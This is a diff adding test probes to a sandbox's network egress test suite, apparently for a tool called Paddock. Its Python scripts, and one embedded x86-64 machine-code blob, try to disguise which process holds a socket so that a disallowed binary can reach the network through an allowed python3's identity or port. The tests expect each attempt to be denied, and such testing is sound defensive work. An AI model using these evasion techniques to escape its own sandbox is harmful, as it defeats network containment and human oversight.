@@ -6,6 +6,20 @@ import type { Probe } from './probes.js';
 import { NODE_HOST, REBIND_BINARY, REBIND_NAME } from './session.js';
 
 const NODE = '/usr/bin/node';
+/**
+ * x86-64 code for the hidden-thread row: clone without CLONE_FILES, then, once told, connect, write, read and
+ * exit from the new thread. P (int64s, in rdi): fd, addr, req, len, buf, stack, done, connect's result, read's
+ * result, go. Its source (GNU as, `.intel_syntax noprefix`; `as`, then `objcopy -O binary -j .text`):
+ *   blob: push rbx; mov rbx, rdi; mov eax, 56; mov edi, 0x10900; mov rsi, [rbx+40]; xor edx, edx;
+ *       xor r10d, r10d; xor r8d, r8d; syscall; test rax, rax; jz child; pop rbx; ret
+ *   child: pause; mov eax, [rbx+72]; test eax, eax; jz child; mov eax, 42; mov edi, [rbx];
+ *       mov rsi, [rbx+8]; mov edx, 16; syscall; mov [rbx+56], rax; mov eax, 1; mov edi, [rbx];
+ *       mov rsi, [rbx+16]; mov rdx, [rbx+24]; syscall; mov eax, 0; mov edi, [rbx]; mov rsi, [rbx+32];
+ *       mov edx, 200; syscall; mov [rbx+64], rax; mov dword ptr [rbx+48], 1; mov eax, 60; xor edi, edi;
+ *       syscall
+ */
+const HIDDEN_THREAD_X86_64 =
+  '534889fbb838000000bf00090100488b732831d24531d24531c00f054885c074025bc3f3908b434885c074f7b82a0000008b3b488b7308ba100000000f0548894338b8010000008b3b488b7310488b53180f05b8000000008b3b488b7320bac80000000f0548894340c7433001000000b83c00000031ff0f05';
 const PYTHON = /^\/usr\/bin\/python3/;
 /** A real shared library of the image, copied where the sandbox can write. */
 const LIB = '$(find /usr/lib /lib -name "libz.so.1" 2>/dev/null | head -1)';
@@ -108,7 +122,12 @@ sys.exit(1)
 EOF`,
     expect: () => ({
       exitNonZero: true,
-      event: { layer: 'connect', action: 'deny', host: 'pypi.org', reason: /different binaries/ },
+      event: {
+        layer: 'connect',
+        action: 'deny',
+        host: 'pypi.org',
+        reason: /different binaries \(.*\/busybox/,
+      },
       reachedNothing: ['upstream'],
     }),
   },
@@ -235,6 +254,120 @@ EOF`,
         reason: /private, loopback|internal or special-use/,
       },
       reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    // The intruder (python3 copied to /sandbox: no rule matches it, no allowed ancestor) hands an unconnected
+    // socket to an idle python3 (it inherits it and waits for its program on a pipe nobody writes, so it runs
+    // none of the intruder's code), keeps its own copy, and ends its main thread alone (SYS_exit): the copy
+    // stays with its other thread. /proc/<pid>/fd, exe and ns/net of a process whose main thread exited are
+    // empty or gone, so a lookup that reads only those sees python3 alone holding the socket; the intruder's
+    // thread then connects and speaks on it itself. Box b: while box a's 24k-descriptor row runs, every lookup
+    // there is over budget, and this row needs its own reason.
+    name: 'hidden holder: the intruder ends its main thread, its other thread speaks on a socket an idle python3 holds',
+    box: 'b',
+    script: () => `cp /usr/bin/python3 /sandbox/intruder-zombie && /sandbox/intruder-zombie - <<'EOF'
+import ctypes, os, socket, subprocess, threading
+s = socket.socket(); r, w = os.pipe()
+idle = subprocess.Popen(['/usr/bin/python3', '-'], stdin=r, pass_fds=[s.fileno()])
+os.close(r)
+def speak():
+    while 'State:\\tZ' not in open('/proc/self/status').read(): pass  # until the main thread is gone
+    try:
+        s.settimeout(4); s.connect(('pypi.org', 443)); s.sendall(b'GET / HTTP/1.0\\r\\nHost: pypi.org\\r\\n\\r\\n')
+        print('ESCAPED' if b'hello from upstream' in s.recv(200) else 'no answer', flush=True)
+    except OSError as e:
+        print('denied', e, flush=True)
+    idle.kill(); os._exit(1)
+threading.Thread(target=speak).start()
+ctypes.CDLL(None).syscall(60, 0)  # exit(2): this thread only
+EOF`,
+    expect: () => ({
+      exitNonZero: true,
+      event: {
+        layer: 'connect',
+        action: 'deny',
+        host: 'pypi.org',
+        reason: /different binaries \(.*\/sandbox\/intruder-zombie/,
+      },
+      reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    // As above, but the intruder's main thread lives on: a thread it makes with clone(CLONE_VM | CLONE_SIGHAND |
+    // CLONE_THREAD) and no CLONE_FILES gets a copy of the descriptor table, which /proc/<pid>/fd never shows (it
+    // is the main thread's). The main thread closes its copy; the thread (x86-64 machine code in an anonymous
+    // executable mapping, as node's JIT makes them) connects and speaks on the socket the idle python3 holds.
+    name: 'hidden holder: a thread of the intruder with a descriptor table of its own speaks on a socket an idle python3 holds',
+    box: 'a',
+    script: () => `cp /usr/bin/python3 /sandbox/intruder-thread && /sandbox/intruder-thread - <<'EOF'
+import ctypes, errno, mmap, os, platform, socket, struct, subprocess, sys, time
+if platform.machine() != 'x86_64': print('this row needs x86-64'); sys.exit(1)
+# clone(P.stack) into a thread; it waits for P.go, then connect(P.fd, P.addr), write(P.req), read(P.buf), P.done = 1, exit.
+CODE = bytes.fromhex('${HIDDEN_THREAD_X86_64}')
+mem = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+mem.write(CODE)
+run = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(mem)))
+s = socket.socket(); r, w = os.pipe()
+idle = subprocess.Popen(['/usr/bin/python3', '-'], stdin=r, pass_fds=[s.fileno()])
+os.close(r)
+addr = ctypes.create_string_buffer(struct.pack('<H', socket.AF_INET) + struct.pack('!H', 443) + socket.inet_aton(socket.gethostbyname('pypi.org')) + bytes(8))
+req = ctypes.create_string_buffer(b'GET / HTTP/1.0\\r\\nHost: pypi.org\\r\\n\\r\\n'); buf = ctypes.create_string_buffer(256); stack = ctypes.create_string_buffer(65536)
+P = (ctypes.c_int64 * 10)(s.fileno(), ctypes.addressof(addr), ctypes.addressof(req), len(req.value), ctypes.addressof(buf), (ctypes.addressof(stack) + 65536 - 64) & ~15)
+tid = run(ctypes.addressof(P))
+if tid < 0:  # Paddock's seccomp profile refuses a thread without CLONE_FILES: EPERM; anything else is reachable
+    print('clone without CLONE_FILES refused:', errno.errorcode.get(-tid, -tid), '' if -tid == errno.EPERM else 'ESCAPED')
+    idle.kill(); sys.exit(1)
+s.close()  # the main thread's copy; the thread's table keeps its own
+P[9] = 1
+for _ in range(200):
+    if P[6]: break
+    time.sleep(0.05)
+print('connect', P[7], 'read', P[8], 'ESCAPED' if b'hello from upstream' in buf.raw else 'no answer', flush=True)
+idle.kill(); os._exit(1)
+EOF`,
+    expect: () => ({ exitNonZero: true, reachedNothing: ['upstream'] }),
+  },
+  {
+    // python3 (allowed) fetches from pypi.org over an AF_INET socket bound to the sandbox's address and port P
+    // (SO_REUSEPORT) and keeps it open; the intruder then binds an AF_INET6 socket to ::ffff:<sandbox IP>, port P,
+    // and connects it to files.pythonhosted.org. Its row is in /proc/<pid>/net/tcp6; a lookup that finds one row
+    // for P in tcp takes python3's: the intruder's connection judged as python3's, to pypi.org, and spliced there.
+    // python3's own fetch is allowed and reaches the upstream once (allowedReach; it prints the proof).
+    name: "source-port reuse across tcp and tcp6: the intruder's AF_INET6 socket connects from the port of python3's AF_INET connection",
+    box: 'b',
+    script: () => `cp /usr/bin/python3 /sandbox/intruder-six && /sandbox/intruder-six - <<'EOF'
+import socket, subprocess, sys
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('192.0.2.1', 9)); ip = u.getsockname()[0]  # sends nothing
+REUSE = 'for o in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): s.setsockopt(socket.SOL_SOCKET, o, 1)'
+GET = b'GET / HTTP/1.0\\r\\nHost: pypi.org\\r\\n\\r\\n'
+python = subprocess.Popen(['/usr/bin/python3', '-c', f"""
+import socket, sys
+s = socket.socket()
+{REUSE}
+s.bind(('{ip}', 0)); s.settimeout(4); s.connect(('pypi.org', 443)); s.sendall({GET!r})
+print(s.getsockname()[1], 'python3 fetched' if b'hello from upstream' in s.recv(200) else 'python3 got nothing', flush=True)
+sys.stdin.read()
+"""], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+port, said = python.stdout.readline().decode().split(' ', 1); port = int(port); print(said.strip(), flush=True)
+s = socket.socket(socket.AF_INET6); exec(REUSE)
+try:
+    s.bind(('::ffff:' + ip, port)); s.settimeout(4)
+    s.connect(('::ffff:' + socket.gethostbyname('files.pythonhosted.org'), 443)); s.sendall(GET)
+    print('port', port, 'ESCAPED' if b'hello from upstream' in s.recv(200) else 'no answer', flush=True)
+except OSError as e:
+    print('port', port, 'denied', e, flush=True)
+python.kill(); sys.exit(1)
+EOF`,
+    expect: () => ({
+      exitNonZero: true,
+      event: {
+        layer: 'connect',
+        action: 'deny',
+        reason: /original destination unknown \(client socket not found\)/,
+      },
+      reachedNothing: ['upstream'],
+      allowedReach: { target: 'upstream', count: 1, proof: /python3 fetched/ },
     }),
   },
 ];
